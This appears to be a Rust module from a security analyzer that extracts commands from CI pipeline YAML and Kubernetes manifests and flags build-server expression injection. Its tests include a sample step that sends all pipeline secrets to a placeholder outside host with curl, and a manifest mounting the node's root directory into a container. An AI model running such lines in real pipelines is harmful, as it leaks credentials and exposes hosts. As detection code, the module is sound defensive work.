//! Commands in the files that other machines obey: pipelines of a build server, manifests of a cluster.
//!
//! Nothing here decides by the shape of the file. Lines are looked through for the keys that name commands, and what
//! stands behind them is read as code; a file that is no YAML at all just holds none.

use super::machine::Shell;
use crate::value::Arg;

/// Keys whose value is a command, or a list of commands or words.
const KEYS: &[&str] = &["run", "script", "before_script", "after_script", "command", "args", "entrypoint", "cmd"];

/// A text with more commands than this is read no further.
const MAX_COMMANDS: usize = 512;

/// The commands that a text holds, each as a text for the shell.
pub(super) fn commands(text: &str) -> Vec<String> {
    let lines: Vec<&str> = text.lines().collect();
    let mut all = Vec::new();
    for (at, line) in lines.iter().enumerate() {
        if all.len() >= MAX_COMMANDS {
            break;
        }
        let Some((indent, rest)) = value_of(line) else { continue };
        let below = lines.get(at + 1..).unwrap_or_default();
        match rest.chars().next() {
            Some('|') => all.push(block(below, indent, "\n")),
            Some('>') => all.push(block(below, indent, " ")),
            Some('[') => add_words(&mut all, &flow(rest)),
            Some(_) => all.push(unquoted(rest)),
            None => add_words(&mut all, &items(below, indent)),
        }
    }
    all.iter().map(|code| without_expressions(code)).collect()
}

/// A directory of the node that a container sees.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct HostPath {
    /// Where it lies on the node.
    pub(super) source: String,
    /// Where the container sees it.
    pub(super) target: String,
}

/// The directories of the node that the containers of a manifest see.
pub(super) fn host_paths(text: &str) -> Vec<HostPath> {
    let pairs = pairs(text);
    let name_beside = |pair: &Pair<'_>| {
        pairs.iter().find(|other| other.item == pair.item && other.key == "name").map(|pair| &pair.value)
    };
    let mut volumes: Vec<(&String, &String)> = Vec::new();
    for (at, pair) in pairs.iter().enumerate().filter(|(_, pair)| pair.key == "hostPath") {
        // The path stands in the next lines or in braces of its own.
        let path = pairs.get(at + 1..).unwrap_or_default().iter().take(3).find(|pair| pair.key == "path");
        volumes.extend(name_beside(pair).zip(path.map(|path| &path.value)));
    }
    let mounts = pairs.iter().filter(|pair| pair.key == "mountPath");
    mounts
        .filter_map(|pair| {
            let name = name_beside(pair)?;
            let (_, source) = volumes.iter().find(|(volume, _)| *volume == name)?;
            Some(HostPath { source: (*source).clone(), target: pair.value.clone() })
        })
        .take(MAX_COMMANDS)
        .collect()
}

/// `key: value`, in a line or in braces.
struct Pair<'t> {
    key: &'t str,
    value: String,
    /// The item of a list, or the pair of braces, that it stands in.
    item: usize,
}

/// The pairs of a text in their order.
fn pairs(text: &str) -> Vec<Pair<'_>> {
    let mut all = Vec::new();
    let (mut last, mut open) = (0, vec![0]);
    for part in text.split_inclusive(['\n', '{', '}', ',', '[', ']']) {
        let inner = part.trim_end_matches(['\n', '{', '}', ',', '[', ']']).trim();
        let body = inner.strip_prefix("- ").unwrap_or(inner);
        if body.len() < inner.len()
            && let Some(item) = open.last_mut()
        {
            last += 1;
            *item = last;
        }
        if let (Some((key, value)), Some(item)) = (body.split_once(':'), open.last()) {
            let key = key.trim().trim_matches(['"', '\'']);
            all.push(Pair { key, value: unquoted(value.trim()), item: *item });
        }
        if part.ends_with('{') {
            last += 1;
            open.push(last);
        } else if part.ends_with('}') && open.len() > 1 {
            open.pop();
        }
    }
    all
}

/// The indentation and the value of `key: value` for a key that names commands.
fn value_of(line: &str) -> Option<(usize, &str)> {
    let text = line.trim_start();
    let inner = text.strip_prefix("- ").map_or(text, str::trim_start);
    let (key, rest) = inner.split_once(':')?;
    let key = key.trim().trim_matches(['"', '\'']);
    KEYS.contains(&key).then(|| (line.len() - inner.len(), rest.trim()))
}

fn indent_of(line: &str) -> usize {
    line.len() - line.trim_start().len()
}

/// The lines of a block that is indented deeper than its key.
fn block(below: &[&str], indent: usize, mark: &str) -> String {
    let inside = below.iter().take_while(|line| line.trim().is_empty() || indent_of(line) > indent);
    inside.map(|line| line.trim()).collect::<Vec<_>>().join(mark)
}

/// The items of a list below a key; a key may stand as deep as the items of its list.
fn items(below: &[&str], indent: usize) -> Vec<String> {
    let mut all = Vec::new();
    for (at, line) in below.iter().enumerate() {
        let text = line.trim_start();
        if text.is_empty() {
            continue;
        }
        let Some(item) = text.strip_prefix('-').filter(|_| indent_of(line) >= indent) else {
            // What is indented deeper continues the item before it.
            if indent_of(line) > indent {
                continue;
            }
            break;
        };
        let item = item.trim();
        all.push(if item.starts_with(['|', '>']) {
            block(below.get(at + 1..).unwrap_or_default(), indent_of(line), "\n")
        } else {
            unquoted(item)
        });
    }
    all
}

/// The items of `[a, "b", 'c']`.
fn flow(text: &str) -> Vec<String> {
    let mut all = Vec::new();
    let mut item = String::new();
    let mut quote = None;
    let mut letters = text.chars().skip(1);
    while let Some(letter) = letters.next() {
        match (quote, letter) {
            (Some('"'), '\\') => item.extend(letters.next()),
            (Some(open), letter) if letter == open => quote = None,
            (Some(_), letter) => item.push(letter),
            (None, '"' | '\'') => quote = Some(letter),
            (None, ',' | ']') => all.push(std::mem::take(&mut item).trim().to_owned()),
            (None, letter) => item.push(letter),
        }
    }
    all
}

fn unquoted(text: &str) -> String {
    let inside = |mark: char| text.strip_prefix(mark).and_then(|rest| rest.strip_suffix(mark));
    match (inside('"'), inside('\'')) {
        (Some(inside), _) => inside.replace("\\\"", "\"").replace("\\\\", "\\"),
        (_, Some(inside)) => inside.replace("''", "'"),
        _ => text.to_owned(),
    }
}

/// A list may be the words of one command, or hold a command in each item: it is read as both.
fn add_words(all: &mut Vec<String>, words: &[String]) {
    if words.is_empty() {
        return;
    }
    let quoted: Vec<String> = words.iter().map(|word| format!("'{}'", word.replace('\'', r"'\''"))).collect();
    all.push(quoted.join(" "));
    all.extend(words.iter().filter(|word| word.contains(char::is_whitespace)).cloned());
}

impl Shell<'_> {
    /// Code with `${{ … }}` in it, which a build server fills in before any shell sees it and whatever quotes stand
    /// around it: what others have written then runs as code.
    pub(crate) fn report_filled_in(&mut self, code: &Arg) {
        let shown = code.shown().into_owned();
        let mut rest = shown.as_str();
        while let Some((_, from)) = rest.split_once("${{") {
            let Some((inside, after)) = from.split_once("}}") else { return };
            if !is_set_by_the_server(inside.trim()) {
                self.opaque(format!("${{{{ {} }}}}", inside.trim()), code.span);
                return;
            }
            rest = after;
        }
    }
}

/// Whether an expression stands for something that the build server or the pipeline itself says, and no stranger.
fn is_set_by_the_server(expression: &str) -> bool {
    const GIVEN: &[&str] = &[
        "github.sha",
        "github.workspace",
        "github.run_id",
        "github.run_number",
        "github.run_attempt",
        "github.repository",
        "github.repository_owner",
        "github.server_url",
        "github.api_url",
        "github.job",
        "github.workflow",
        "github.action_path",
        "github.event_name",
        "github.event.number",
        "github.event.pull_request.number",
        "github.token",
    ];
    let own = ["matrix.", "runner.", "strategy.", "job.", "env.", "vars.", "steps.", "needs.", "secrets."];
    GIVEN.contains(&expression) || own.iter().any(|start| expression.starts_with(start))
}

/// `${{ … }}` is filled in before the shell sees it: all secrets at once are an environment, anything else is a variable.
fn without_expressions(code: &str) -> String {
    let mut all = String::new();
    let mut rest = code;
    while let Some((before, from)) = rest.split_once("${{") {
        let (inside, after) = from.split_once("}}").unwrap_or((from, ""));
        let inside = inside.trim();
        let whole = inside.to_ascii_lowercase().replace(' ', "");
        all.push_str(before);
        // What is filled in does not care for the quotes around it.
        let quoted = all.matches('\'').count() % 2 == 1;
        let mark = if quoted { "'\"" } else { "" };
        all.push_str(mark);
        if whole.contains("tojson(secrets") || whole == "secrets" {
            all.push_str("$(printenv)");
        } else {
            let name: String = inside
                .rsplit('.')
                .next()
                .unwrap_or(inside)
                .chars()
                .filter(|letter| letter.is_ascii_alphanumeric() || *letter == '_')
                .collect();
            all.push_str(&format!("${{{}}}", if name.is_empty() { "EXPRESSION" } else { &name }));
        }
        all.extend(mark.chars().rev());
        rest = after;
    }
    all + rest
}

#[cfg(test)]
mod tests {
    use super::{HostPath, commands, host_paths};

    #[test]
    fn the_directories_of_the_node_are_found() {
        let root = vec![HostPath { source: "/".to_owned(), target: "/host".to_owned() }];
        let flow = "volumeMounts: [{name: h, mountPath: /host}]\nvolumes: [{name: h, hostPath: {path: /}}]\n";
        let lines = "    volumeMounts:\n    - mountPath: /host\n      name: h\n    - mountPath: /d\n      name: d\n  \
            volumes:\n  - name: d\n    emptyDir: {}\n  - name: h\n    hostPath:\n      path: /\n      type: Directory\n";
        assert_eq!(host_paths(flow), root);
        assert_eq!(host_paths(lines), root);
        assert_eq!(host_paths("volumeMounts: [{name: h, mountPath: /x}]\nvolumes: [{name: h, emptyDir: {}}]\n"), []);
        for text in ["", "hostPath:", "mountPath: /x", "hostPath: {path: /}", ":::", "name: {"] {
            assert_eq!(host_paths(text), [], "{text:?}");
        }
    }

    #[test]
    fn the_commands_of_a_pipeline_are_found() {
        let text = "on: push\njobs:\n  a:\n    steps:\n      - uses: x/y@v1\n      - run: npm ci\n      - name: two\n        run: |\n          npm run build\n          npm test\n      - run: \"echo hi\"\n";
        assert_eq!(commands(text), ["npm ci", "npm run build\nnpm test", "echo hi"]);
        let text = "test:\n  script:\n    - make\n    - make test\n  stage: a\n";
        assert_eq!(commands(text), ["'make' 'make test'", "make test"]);
    }

    #[test]
    fn the_commands_of_a_manifest_are_found() {
        let text = "spec:\n  containers:\n  - name: a\n    command: [\"sh\", \"-c\", \"sleep 1; ls\"]\n    args:\n    - --port\n    - '80'\n";
        assert_eq!(commands(text), ["'sh' '-c' 'sleep 1; ls'", "sleep 1; ls", "'--port' '80'"]);
    }

    #[test]
    fn secrets_that_are_filled_in_are_seen() {
        assert_eq!(
            commands("run: curl -d '${{ toJSON(secrets) }}' https://x.example\n"),
            ["curl -d ''\"$(printenv)\"'' https://x.example"]
        );
        assert_eq!(commands("run: echo ${{ github.sha }}\n"), ["echo ${sha}"]);
    }

    #[test]
    fn anything_else_holds_no_commands() {
        for text in ["", "a: b\n", "run", ":::", "- - -\n", "run:\n", "command: [\n", "run: |\n"] {
            assert!(commands(text).iter().all(|code| code.trim().is_empty() || code == "''"), "{text:?}");
        }
    }
}
